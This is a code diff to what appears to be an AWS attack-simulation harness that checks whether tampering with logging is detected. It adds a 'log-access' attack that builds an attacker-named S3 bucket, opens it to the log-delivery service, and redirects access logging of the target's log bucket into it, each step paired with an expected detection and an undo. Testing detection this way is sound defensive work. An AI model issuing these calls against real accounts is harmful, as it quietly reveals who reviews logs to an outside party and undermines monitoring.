@@ -37,6 +37,19 @@ function bandMetric(alarms: Answer | undefined, logBucket: string): Call['input'
   return { Stat, ...(Metric ?? { Dimensions: [{ Name: 'BucketName', Value: logBucket }] }) };
 }
 
+/** Without a default lock, which S3 refuses of a target (Amazon S3 User Guide, "Enabling Amazon S3 server access logging"). */
+const ACCESS_LOGS = 'access-logs-of-an-attacker';
+
+/** Access logs are delivered by a service of its own (Amazon S3 User Guide, "Permissions for log delivery"). */
+function letsLogsIn({ trailArn }: Target): string {
+  const Resource = `arn:${parseArn(trailArn)?.partition}:s3:::${ACCESS_LOGS}/*`;
+  const Principal = { Service: 'logging.s3.amazonaws.com' };
+  return JSON.stringify({
+    Version: '2012-10-17',
+    Statement: [{ Effect: 'Allow', Principal, Action: 's3:PutObject', Resource }],
+  });
+}
+
 const text = (answer: Answer | undefined, name: string): string => String(answer?.[name]);
 
 export const QUIET_ATTACKS: readonly Attack[] = [
@@ -137,6 +150,26 @@ export const QUIET_ATTACKS: readonly Attack[] = [
     undo: ({ logBucket }, { before: [alarms] }) => [
       call('cloudwatch', 'DeleteAnomalyDetector', { SingleMetricAnomalyDetector: bandMetric(alarms, logBucket) }),
     ],
+  },
+  {
+    id: 'log-access',
+    title: 'Log who reads the log bucket into a bucket of the attacker',
+    gain: 'The attacker learns who looks at which log file, and when.',
+    threat: TECHNIQUES.transferToCloudAccount,
+    outcome: detected('Drift', 'LoggingConfiguration'),
+    calls: (target) => [
+      call('s3api', 'CreateBucket', {
+        Bucket: ACCESS_LOGS,
+        CreateBucketConfiguration: { LocationConstraint: parseArn(target.trailArn)?.region },
+      }),
+      call('s3api', 'PutBucketPolicy', { Bucket: ACCESS_LOGS, Policy: letsLogsIn(target) }),
+      call('s3api', 'PutBucketLogging', {
+        Bucket: target.logBucket,
+        BucketLoggingStatus: { LoggingEnabled: { TargetBucket: ACCESS_LOGS, TargetPrefix: 'access/' } },
+      }),
+    ],
+    // the bucket stays: what S3 delivered is in it
+    undo: ({ logBucket: Bucket }) => [call('s3api', 'PutBucketLogging', { Bucket, BucketLoggingStatus: {} })],
   },
   onBucket(
     {
